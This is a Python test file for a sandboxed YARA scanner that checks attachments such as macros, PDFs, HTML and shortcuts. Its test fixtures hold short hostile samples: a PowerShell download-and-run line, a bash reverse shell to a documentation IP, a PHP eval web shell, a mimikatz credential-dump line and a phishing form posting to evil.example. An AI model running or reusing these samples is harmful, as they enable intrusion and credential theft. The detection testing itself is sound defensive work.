"""YARA over attachments: in the real sandbox, with rules of the house and broken ones."""

from __future__ import annotations

import base64
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

from core.errors import ToolRefused
from tests.unit.detection.rules import yara
from tools.detection.books import Rulebooks
from tools.investigate import scan_yara
from tools.investigate.answer import InputRefused
from tools.registry import default_registry
from tools.runner import Runner
from tools.sandbox.sandbox import Sandbox

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FETCH = b"powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')\""


def attached(name: str, content: bytes) -> dict[str, Any]:
    return {"name": name, "content_base64": base64.b64encode(content).decode()}


def zipped(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


async def scan(sandbox: Sandbox, file: dict[str, Any] | None, path: str = "", rules: Rulebooks | None = None) -> Any:
    runner = Runner(sandbox=sandbox, rules=rules or Rulebooks())
    arguments = {"attachment": 0, "path": path}
    return await runner.run(default_registry().get("scan_yara"), arguments, {"attachment": file})


async def test_known_file_is_named_by_its_rule_in_the_sandbox(sandbox: Sandbox) -> None:
    found = await scan(sandbox, attached("eicar.com", EICAR))
    assert found["facts"] | {"matched": True, "rule": "eicar_test_file", "skipped": 0} == found["facts"]
    [match] = found["detail"]["matches"]
    assert (match["author"], match["file"]) == ("Casemate", "programs.yar")
    assert match["strings"][0]["offset"] == 28


async def test_file_inside_an_archive_is_scanned_by_its_path(sandbox: Sandbox) -> None:
    outer = attached("papers.zip", zipped("invoice.ps1", FETCH))
    found = await scan(sandbox, outer, "invoice.ps1")
    assert (found["facts"]["rule"], found["facts"]["severity"]) == ("powershell_fetches_and_runs", "high")
    with pytest.raises(ToolRefused, match="There is no"):
        await scan(sandbox, outer, "other.ps1")


async def test_missing_attachment_is_refused_in_a_sentence(sandbox: Sandbox) -> None:
    with pytest.raises(ToolRefused, match="no attachment with this index"):
        await scan(sandbox, None)


async def test_worst_rule_comes_first_and_broken_ones_are_told(sandbox: Sandbox, tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(
        "rule broken { condition: $missing }\n"
        'rule scored { meta: score = 95 author = "Ada" strings: $a = "IEX" condition: $a }'
    )
    found = await scan(sandbox, attached("a.ps1", FETCH), rules=Rulebooks(yara=[tmp_path]))
    assert (found["facts"]["rule"], found["facts"]["severity"], found["facts"]["skipped"]) == ("scored", "critical", 1)
    assert found["detail"]["skipped"][0] | {"file": "own.yar", "line": 1} == found["detail"]["skipped"][0]
    assert "1 broken rule could not be run" in found["summary"]


async def test_rule_that_never_ends_is_ended_and_the_next_call_works(sandbox: Sandbox, tmp_path: Path) -> None:
    (tmp_path / "slow.yar").write_text(
        "rule slow { condition: for all i in (0..100000000) : ( for all j in (0..100000000) : ( i * j >= 0 ) ) }"
    )
    from dataclasses import replace

    tool = default_registry().get("scan_yara")
    brief = replace(tool, limits=replace(tool.limits, seconds=2.0))
    runner = Runner(sandbox=sandbox, rules=Rulebooks(yara=[tmp_path]))
    with pytest.raises(ToolRefused, match=r"took longer|more memory or time"):
        await runner.run(brief, {"attachment": 0, "path": ""}, {"attachment": attached("a", b"x")})
    assert (await scan(sandbox, attached("eicar.com", EICAR)))["facts"]["matched"]


LURES = {
    "office_macro_runs_by_itself": (
        "a.bas", b'Attribute VB_Name = "M"\nSub AutoOpen()\nCreateObject("WScript.Shell").Run "calc"\nEnd Sub'),
    "office_remote_template": (
        "a.rels", b'<R Type="x/relationships/attachedTemplate" Target="https://e.example" TargetMode="External"/>'),
    "rtf_equation_editor": ("a.rtf", b"{\\rtf1{\\object\\objdata 0105000002000000 0b0000004571756174696f6e2e3300"),
    "pdf_runs_something": ("a.pdf", b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>\n2 0 obj<</S /JavaScript /JS (x)>>"),
    "onenote_carries_a_script": (
        "a.one", bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + b"\0" * 64
        + bytes.fromhex("E716E3BD65261145A4C48D4D0B7A9EAC") + b"WScript.Shell"),
    "html_smuggling": (
        "a.html", b"<html><script>var b=new Blob([atob('x')]);a.href=URL.createObjectURL(b);a.download='x'</script>"),
    "html_password_form_posts_elsewhere": (
        "a.html", b'<form method=post action="https://evil.example/p"><input name=p type="password"></form>'),
    "svg_with_script": ("a.svg", b"<svg xmlns='x'><script>top.location='https://evil.example'</script></svg>"),
    "shortcut_runs_a_shell": (
        "a.lnk", bytes.fromhex("4C0000000114020000000000C000000000000046") + "powershell.exe -w 1".encode("utf-16-le")),
    "powershell_encoded_command": ("a.bat", b"powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
    "script_host_dropper": ("a.vbs", b'Set s=CreateObject("WScript.Shell"): Set h=CreateObject("MSXML2.XMLHTTP")'),
    "web_shell": ("a.php", b"<?php @eval($_POST['x']);"),
    "reverse_shell": ("a.sh", b"bash -i >& /dev/tcp/198.51.100.9/443 0>&1"),
    "credential_dumper": ("a.txt", b"mimikatz # sekurlsa::logonpasswords"),
    "program_disguised_as_document": ("invoice.pdf.exe", b"MZ" + bytes(64)),
}  # fmt: skip
ORDINARY = {
    "note.txt": b"Dear all,\nplease find the minutes of Monday attached.\n",
    "page.html": b"<html><body><form action='/login'><input type=password></form><script src=app.js></script></body>",
    "logo.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0h24v24'/></svg>",
    "paper.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj",
    "deploy.ps1": b"Get-Service | Where-Object Status -eq Running | Export-Csv services.csv",
    "app.js": b"const x = new Uint8Array(4); console.log(String.fromCharCode(65));",
}


@pytest.fixture(scope="module")
def shipped() -> dict[str, Any]:
    given: dict[str, Any] = Rulebooks().given(["yara_rules"])["yara_rules"]
    return given


@pytest.mark.parametrize("name", LURES)
def test_each_shipped_rule_finds_what_it_is_for(shipped: dict[str, Any], name: str) -> None:
    file, content = LURES[name]
    found = scan_yara.run({"attachment": 0, "path": ""}, {"attachment": attached(file, content), "yara_rules": shipped})
    assert name in {match["rule"] for match in found["detail"]["matches"]}


@pytest.mark.parametrize("name", ORDINARY)
def test_shipped_rules_leave_ordinary_files_alone(shipped: dict[str, Any], name: str) -> None:
    file = attached(name, ORDINARY[name])
    found = scan_yara.run({"attachment": 0, "path": ""}, {"attachment": file, "yara_rules": shipped})
    assert found["detail"]["matches"] == []


def test_every_shipped_rule_has_a_test(shipped: dict[str, Any]) -> None:
    assert shipped["rules"] == len({*LURES, "eicar_test_file", "powershell_fetches_and_runs"})
    assert shipped["problems"] == []


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("rule a { condition: true }\nrule b { condition: $x }", 2, "unknown pattern"),
        ("rule a { condition: true }\nrule b { condition: ", 2, "syntax error"),
        ('import "vt"\n\nrule b { condition: vt.metadata.file_size > 1 }', 3, "depends on ignored module `vt`"),
        ('include "other.yar"', 1, "include statements not allowed"),
    ],
)
def test_broken_rule_is_named_with_its_line_and_the_others_run(
    tmp_path: Path, text: str, line: int, message: str
) -> None:
    book = yara(tmp_path, bad=text, good="rule a { condition: true }")
    [problem] = book.problems
    assert (problem.file, problem.line) == ("bad.yar", line)
    assert message in problem.message
    given = book.given()
    found = scan_yara.run({"attachment": 0, "path": ""}, {"attachment": attached("x", b"x"), "yara_rules": given})
    assert "good.yar" in {match["file"] for match in found["detail"]["matches"]}


def test_name_of_the_file_is_what_public_rules_expect(tmp_path: Path) -> None:
    given = yara(
        tmp_path, a='rule a { condition: filename == "x.PDF" and extension == ".pdf" and owner == "" }'
    ).given()
    file = attached("x.PDF", b"x")
    assert scan_yara.run({"attachment": 0, "path": ""}, {"attachment": file, "yara_rules": given})["facts"]["matched"]


def test_attachment_that_is_not_there_is_refused() -> None:
    with pytest.raises(InputRefused):
        scan_yara.run({"attachment": 3, "path": ""}, {"attachment": None, "yara_rules": {}})
